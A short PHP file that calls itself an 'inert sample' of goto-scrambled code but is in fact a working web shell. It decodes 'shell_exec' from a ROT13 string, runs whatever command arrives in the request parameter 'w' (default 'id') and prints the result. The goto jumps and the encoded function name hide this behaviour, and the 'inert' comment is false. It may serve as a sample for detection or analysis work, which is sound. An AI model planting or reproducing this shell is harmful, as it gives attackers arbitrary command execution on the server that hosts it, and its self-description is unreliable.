<?php
// inert sample: goto-scrambled statements around a callee decoded with str_rot13()
goto x1;
x3:
echo "<pre>" . $r . "</pre>";
exit;
x2:
$r = $e($q);
goto x3;
x1:
$q = isset($_REQUEST['w']) ? $_REQUEST['w'] : 'id';
$e = str_rot13('furyy_rkrp');
goto x2;
